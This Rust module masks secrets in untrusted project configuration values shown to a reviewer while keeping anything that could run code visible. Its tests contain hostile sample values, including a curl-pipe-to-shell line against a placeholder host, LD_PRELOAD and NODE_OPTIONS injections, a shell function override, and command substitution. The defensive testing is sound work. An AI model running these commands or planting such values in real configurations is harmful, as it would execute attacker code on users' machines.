//! Renders values of an untrusted project file for the person who decides about it. Shows everything except secrets: a value
//! that is left out could be the one that runs code.

use std::path::Path;

use serde_json::{Map, Value};
use zdx_guard::selects_helper;
use zdx_protocol::redact::{MASK, Redactor, names_secret_value};

use super::schema::ValueKind;
use super::secret::{called_secret, in_header};
use super::show::{HIDDEN, without_password};

/// Values shorter than this are not recognised as secrets by their content, only by their name.
const SHORT: usize = 8;

/// The value with its secrets masked. `name` is the last segment of the key; paths are looked up in `root`.
pub(super) fn disclose(kind: ValueKind, name: &str, value: &Value, root: &Path) -> Value {
    let disclosure = Disclosure { redactor: Redactor::new::<&str>([]).ok(), root };
    match (kind, value) {
        (ValueKind::Header, Value::String(text)) => disclosure.header(name, text).into(),
        (ValueKind::Url, Value::String(url)) => disclosure.text(url).into(),
        (ValueKind::Open, value) => disclosure.value(value),
        (_, value) => value.clone(),
    }
}

struct Disclosure<'a> {
    /// None recognises no secret by its shape.
    redactor: Option<Redactor>,
    root: &'a Path,
}

impl Disclosure<'_> {
    fn value(&self, value: &Value) -> Value {
        match value {
            Value::Object(table) => Value::Object(self.table(table)),
            Value::Array(items) => items.iter().map(|item| self.value(item)).collect(),
            Value::String(text) => self.text(text).into(),
            Value::Null | Value::Bool(_) | Value::Number(_) => value.clone(),
        }
    }

    fn table(&self, table: &Map<String, Value>) -> Map<String, Value> {
        let shown = |(name, value): (&String, &Value)| {
            let value = match (name.as_str(), value) {
                ("env" | "environment", Value::Object(inner)) => {
                    Value::Object(texts(inner, |name, text| self.variable(name, text)))
                }
                ("headers", Value::Object(inner)) => {
                    Value::Object(texts(inner, |name, text| self.header(name, text)))
                }
                (name, Value::String(text)) => self.variable(name, text).into(),
                (_, value) => self.value(value),
            };
            (name.clone(), value)
        };
        table.iter().map(shown).collect()
    }

    /// A variable that selects code is shown whatever its name resembles (`GIT_CONFIG_KEY_0`), and so is a value that
    /// could be code: a secret has no need of blanks, shell syntax or a path.
    fn variable(&self, name: &str, text: &str) -> String {
        let short = (1..SHORT).contains(&text.len()) && !text.starts_with(['$', '/', '.', '~']);
        let secret = names_secret_value(name, text) || (called_secret(name) && short);
        match secret && !selects_helper(name) && !is_reference(text) && self.may_be_secret(text) {
            true => HIDDEN.to_owned(),
            false => self.text(text),
        }
    }

    fn header(&self, name: &str, text: &str) -> String {
        match in_header(name, text) && !is_reference(text) {
            true => HIDDEN.to_owned(),
            false => self.text(text),
        }
    }

    /// Masks what has the shape of a token, and passwords in addresses. All else could be code and is shown.
    fn text(&self, text: &str) -> String {
        let mut out = String::with_capacity(text.len());
        let mut scheme = false;
        for word in text.split_inclusive(char::is_whitespace) {
            let is_address = ["http://", "https://"].iter().any(|start| word.starts_with(start));
            let word = without_user(word);
            let ends =
                |c: char| !is_token_char(c) || "=:@,%".contains(c) || (is_address && "/?&#".contains(c));
            for piece in word.split_inclusive(ends) {
                let token = piece.strip_suffix(ends).unwrap_or(piece);
                let hides = self.has_shape(token, scheme)
                    && self.may_be_secret(token)
                    && !follows_path(&out, is_address);
                out.push_str(if hides { MASK } else { token });
                out.push_str(&piece[token.len()..]);
                if !token.is_empty() {
                    scheme = token.eq_ignore_ascii_case("bearer");
                }
            }
        }
        out
    }

    /// Whether a word is a secret by the look of it, alone or behind the name of an authentication scheme.
    fn has_shape(&self, token: &str, behind_scheme: bool) -> bool {
        let Some(redactor) = &self.redactor else { return false };
        let alone = redactor.redact(token) == MASK;
        alone || (behind_scheme && redactor.redact(&format!("Bearer {token}")) == format!("Bearer {MASK}"))
    }

    /// Whether a value is one word that no shell would take for code and that names no file.
    fn may_be_secret(&self, text: &str) -> bool {
        let extension = text.rsplit_once('.').map_or("", |(_, extension)| extension);
        let file_name =
            matches!(extension.len(), 1..=4) && extension.starts_with(|c: char| c.is_ascii_alphabetic());
        let random = text.contains(|c: char| c.is_ascii_digit() || c.is_ascii_uppercase());
        text.chars().all(is_token_char) && random && !file_name && !self.root.join(text).exists()
    }
}

/// A character that passwords and tokens have and no shell gives a meaning.
fn is_token_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || "_-.~+=:@%^,".contains(c)
}

/// Whether what comes next is part of a path. An address is no path of this machine.
fn follows_path(before: &str, is_address: bool) -> bool {
    !is_address && before.ends_with('/')
}

/// An address without the user and password before its host, if they are nothing but words.
fn without_user(word: &str) -> String {
    let user = word.split_once("://").and_then(|(_, rest)| rest.split_once('@')).map(|(user, _)| user);
    match user {
        Some(user) if user.chars().all(is_token_char) => without_password(word),
        Some(_) | None => word.to_owned(),
    }
}

/// Numbers and booleans stay as they are.
fn texts(table: &Map<String, Value>, shown: impl Fn(&str, &str) -> String) -> Map<String, Value> {
    let one = |(name, value): (&String, &Value)| {
        let value = value.as_str().map_or_else(|| value.clone(), |text| shown(name, text).into());
        (name.clone(), value)
    };
    table.iter().map(one).collect()
}

/// `${NAME}` or `Bearer ${NAME}`: names a variable and holds no secret itself.
fn is_reference(text: &str) -> bool {
    let name = text.rsplit_once(' ').map_or(text, |(_, last)| last);
    let inner = name.strip_prefix("${").and_then(|rest| rest.strip_suffix('}'));
    inner.is_some_and(|inner| inner.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
        && text.len() - name.len() <= "Bearer ".len()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn shown(value: &Value) -> String {
        disclose(ValueKind::Open, "server", value, Path::new("/nowhere")).to_string()
    }

    #[test]
    fn variables_that_run_code_are_shown() {
        for (name, value) in [
            ("NODE_OPTIONS", "--require ./x.js"),
            ("PATH", "./bin:/usr/bin"),
            ("LD_PRELOAD", "./evil.so"),
            ("PYTHONPATH", "tools/lib"),
            ("GIT_CONFIG_KEY_0", "core.fsmonitor"),
            ("GIT_CONFIG_VALUE_0", "./run-me --with-a-long-value"),
            ("BASH_FUNC_TOKEN%%", "() { ./run-me now; }"),
            ("MODE", "planted"),
            ("SSH_KEY", "./keys/id"),
            ("GITHUB_TOKEN", "${OTHER_TOKEN}"),
        ] {
            let text = shown(&json!({"command": ["x"], "env": {name: value}}));
            assert!(text.contains(&json!({name: value}).to_string()), "{text}");
        }
    }

    #[test]
    fn code_is_shown_whatever_it_is_called() {
        let token = "ghp_a1B2c3D4e5a1B2c3D4e5a1B2c3D4e5a1B2c3D4e5";
        for value in [
            json!({"command": "sh", "args": ["-c", "PASSWORD=./evil7.sh; $PASSWORD"]}),
            json!({"command": "sh -c 'API_TOKEN=evil7now; $API_TOKEN'"}),
            json!({"command": ["bash", "-c", "x://; ./evil7.sh; echo @y"]}),
            json!({"command": ["bash", "-c", "X='Bearer ./scripts/evil7.sh'; ${X#Bearer }"]}),
            json!({"command": ["bash", "-c", format!("./{token}")]}),
            json!({"command": ["bash", "-c", "echo -----BEGIN PRIVATE KEY-----\nsh evil7\n-----END PRIVATE KEY-----"]}),
            json!({"command": ["sh", "-c", "eval $API_KEY"], "env": {"API_KEY": "curl http://h.example/evil7|sh"}}),
            json!({"env": {"KEY_CMD": "sh run1.sh"}}),
            json!({"env": {"API_KEY": "id;./evil7"}}),
            json!({"env": {"API_KEY": "tools/evil7"}}),
            json!({"env": {"API_KEY": "evil-tool7.sh"}}),
            json!({"env": {"API_KEY": "https://h.example/evil7?x"}}),
            json!({"env": {"AUTH_TOKEN": "poweroff"}}),
            json!({"env": {"AUTH_TOKEN": "$(./evil7-and-more)"}}),
            json!({"password": "sh ./evil7.sh"}),
        ] {
            assert_eq!(shown(&value), value.to_string());
        }
    }

    #[test]
    fn a_value_that_names_a_file_of_the_project_is_shown() {
        let dir = tempfile::tempdir().unwrap();
        let value = json!({"env": {"API_KEY": "evil7-of-the-project"}});
        let text = || disclose(ValueKind::Open, "server", &value, dir.path()).to_string();
        assert!(text().contains(HIDDEN), "{}", text());
        std::fs::write(dir.path().join("evil7-of-the-project"), "").unwrap();
        assert_eq!(text(), value.to_string());
    }

    #[test]
    fn tokens_in_arguments_are_masked() {
        let token = "ghp_a1B2c3D4e5a1B2c3D4e5a1B2c3D4e5a1B2c3D4e5";
        let args = json!([
            "--header",
            format!("Authorization: Bearer {token}"),
            "Authorization: Bearer abcdefgh12345678",
            format!("--token={token}"),
            format!("https://h.example/{token}/x?key={token}"),
            "git clone https://me:hunter22@h.example/x.git",
        ]);
        let text = shown(&json!({"args": args}));
        for secret in [token, "abcdefgh12345678", "hunter22"] {
            assert!(!text.contains(secret), "{secret} in {text}");
        }
        for visible in ["Authorization: Bearer ", "--token=", "h.example", "/x.git", "git clone"] {
            assert!(text.contains(visible), "{visible} in {text}");
        }
    }

    #[test]
    fn secrets_stay_hidden_and_the_rest_of_the_value_is_shown() {
        let secret = format!("ghp_{}", "a1B2c3D4e5".repeat(4));
        let options = format!("--require ./x.js --auth-token={secret}");
        let value = json!({
            "url": format!("https://user:hunter22@host.example/mcp?token={secret}"),
            "headers": {
                "Authorization": "Bearer abcdefgh12345678",
                "X-Trace": "on",
                "X-Api-Key": "${MY_KEY}",
                "Proxy-Authorization": "Bearer ${MINE}",
            },
            "env": {"DB_PASSWORD": "hunter2", "API_KEY": "Zx81-abcdefghij", "NODE_OPTIONS": options, "PORT": 80},
        });
        let text = shown(&value);
        for secret in [secret.as_str(), "hunter2", "Zx81", "abcdefgh12345678"] {
            assert!(!text.contains(secret), "{secret} in {text}");
        }
        for visible in [
            "@host.example/mcp",
            "--require ./x.js",
            "\"X-Trace\":\"on\"",
            "\"X-Api-Key\":\"${MY_KEY}\"",
            "Bearer ${MINE}",
            "\"PORT\":80",
        ] {
            assert!(text.contains(visible), "{visible} in {text}");
        }
    }
}
